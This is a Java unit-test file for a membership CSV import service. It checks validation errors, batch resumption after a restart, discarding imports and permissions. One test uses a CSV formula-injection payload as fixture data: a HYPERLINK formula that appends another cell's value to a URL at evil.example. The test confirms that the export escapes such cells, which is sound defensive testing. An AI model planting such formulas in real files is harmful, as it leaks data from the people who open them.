package org.branchwork.node.service;

import java.security.SecureRandom;
import java.time.Clock;
import java.time.Duration;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import org.branchwork.node.domain.ImportProblem;
import org.branchwork.node.domain.MemberId;
import org.branchwork.node.domain.MemberQuery;
import org.branchwork.node.domain.Role;
import org.branchwork.node.storage.AuditStore;
import org.branchwork.node.storage.MemberImportStore;
import org.branchwork.node.storage.MemberStore;
import org.branchwork.node.storage.SessionStore;
import org.branchwork.node.storage.Transactions;
import org.branchwork.node.testing.MemoryDatabase;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class MemberImportServiceTest {

    private static final Acting ORGANISER = Acting.apiToken();

    @RegisterExtension
    final MemoryDatabase db = new MemoryDatabase();

    private final Transactions tx = db.transactions();
    private final Clock clock = Clock.systemUTC();
    private final MemberImportStore store = new MemberImportStore();
    private final MemberStore memberStore = new MemberStore();
    private final MemberService members = new MemberService(
            tx,
            memberStore,
            new SessionService(tx, new SessionStore(), memberStore, new SecureRandom(), clock),
            new AuditLog(tx, new AuditStore(), clock),
            clock);
    private final MemberImportService imports =
            new MemberImportService(tx, store, members, new AuditLog(tx, new AuditStore(), clock), clock);

    @Test
    void everyProblemIsReportedByLineAndColumnAndNothingIsAddedBeforeTheGo() {
        MemberImportService.Status s = imports.validate(ORGANISER, "list.csv", """
                name,email,postcode,phone,contact_consent,tags
                Sam Okafor,sam@example.org,M1 1AE,,yes,canvasser
                ,nobody@example.org,M1 1AE,,yes,
                Dup,sam@example.org,M1 1AE,,maybe,
                """);

        assertThat(s.totalRows()).isEqualTo(3);
        assertThat(s.validRows()).isEqualTo(1);
        assertThat(s.problems())
                .extracting(ImportProblem::line, ImportProblem::column)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple(3, "name"),
                        org.assertj.core.groups.Tuple.tuple(4, "contact_consent"),
                        org.assertj.core.groups.Tuple.tuple(4, "email"));
        assertThat(total()).as("validation adds nobody").isZero();
    }

    @Test
    void everyExportedCellThatASpreadsheetWouldRunIsWrittenAsText() throws Exception {
        long id = imports.validate(ORGANISER, "hostile.csv", """
                name,email,postcode,phone,contact_consent,tags
                "=HYPERLINK(""https://evil.example?""&B2,""x"")",=cmd@y.io,M1 1AE,+44 161 496 0000,yes,
                " -2+3",plain@example.org,M1 1AE,,yes,
                """).id();
        assertThat(imports.start(ORGANISER, id)).isTrue();
        awaitDone(id);
        java.io.StringWriter out = new java.io.StringWriter();
        members.exportCsv(ORGANISER, new MemberQuery("", "", "", null, MemberQuery.Sort.NEWEST, 1, 10), out);

        var records = org.apache.commons.csv.CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new java.io.StringReader(out.toString()))
                .getRecords();
        assertThat(records).hasSize(2);
        var hostile = records.stream()
                .filter(r -> r.get("email").contains("cmd"))
                .findFirst()
                .orElseThrow();
        assertThat(hostile.get("name")).startsWith("'=HYPERLINK(");
        assertThat(hostile.get("email")).isEqualTo("'=cmd@y.io");
        assertThat(hostile.get("phone")).isEqualTo("'+44 161 496 0000");
        assertThat(records.stream()
                        .filter(r -> r.get("email").equals("plain@example.org"))
                        .findFirst()
                        .orElseThrow()
                        .get("name"))
                .startsWith("'");
        for (var record : records) {
            for (String cell : record) {
                assertThat(cell.stripLeading())
                        .as(cell)
                        .doesNotStartWith("=")
                        .doesNotStartWith("+")
                        .doesNotStartWith("@")
                        .doesNotStartWith("-");
            }
        }
    }

    @Test
    void anImportInterruptedByARestartResumesAfterItsLastCommittedBatch() throws Exception {
        int rows = MemberImportService.BATCH * 2 + 7;
        StringBuilder csv = new StringBuilder("name,email,postcode\n");
        for (int i = 0; i < rows; i++) {
            csv.append("Member ").append(i).append(",m").append(i).append("@example.org,SK1 3XE\n");
        }
        long id = imports.validate(ORGANISER, "big.csv", csv.toString()).id();
        // As if the node stopped after the first batch: state running, one batch committed.
        tx.inTransaction(c -> {
            store.transition(c, id, "validated", "running");
            var first = store.rowsAfter(c, id, 0, MemberImportService.BATCH);
            store.progress(
                    c,
                    id,
                    members.insertBatch(c, first),
                    0,
                    first.get(first.size() - 1).line());
            return null;
        });
        assertThat(total()).isEqualTo(MemberImportService.BATCH);

        imports.resumeInterrupted();

        MemberImportService.Status done = awaitDone(id);
        assertThat(done.doneRows()).isEqualTo(rows);
        assertThat(done.skippedRows()).isZero();
        assertThat(total()).as("every row once, none twice").isEqualTo(rows);
        assertThat(rowsLeft(id)).as("imported rows are forgotten").isEmpty();
    }

    @Test
    void aDiscardedImportForgetsItsRowsAndCannotBeStarted() {
        long id = imports.validate(ORGANISER, "list.csv", "name,email,postcode\nSam,sam@example.org,M1 1AE\n")
                .id();

        assertThat(imports.discard(ORGANISER, id)).isTrue();

        assertThat(imports.start(ORGANISER, id)).isFalse();
        assertThat(rowsLeft(id)).isEmpty();
        assertThat(total()).isZero();
    }

    @Test
    void aMemberCannotImport() {
        assertThatThrownBy(() ->
                        imports.validate(new Acting(new MemberId(5), Role.MEMBER), "x.csv", "name,email,postcode\n"))
                .isInstanceOf(NotAllowed.class);
    }

    private java.util.List<org.branchwork.node.domain.ImportRow> rowsLeft(long id) {
        return tx.inTransaction(c -> store.rowsAfter(c, id, 0, 10));
    }

    private long total() {
        return members.search(ORGANISER, new MemberQuery("", "", "", null, MemberQuery.Sort.NEWEST, 1, 10))
                .total();
    }

    private MemberImportService.Status awaitDone(long id) throws InterruptedException {
        long until = System.nanoTime() + Duration.ofSeconds(30).toNanos();
        while (System.nanoTime() < until) {
            MemberImportService.Status s = imports.status(ORGANISER, id).orElseThrow();
            if (s.state().equals("done")) {
                return s;
            }
            Thread.sleep(20);
        }
        throw new AssertionError("the import did not finish");
    }
}
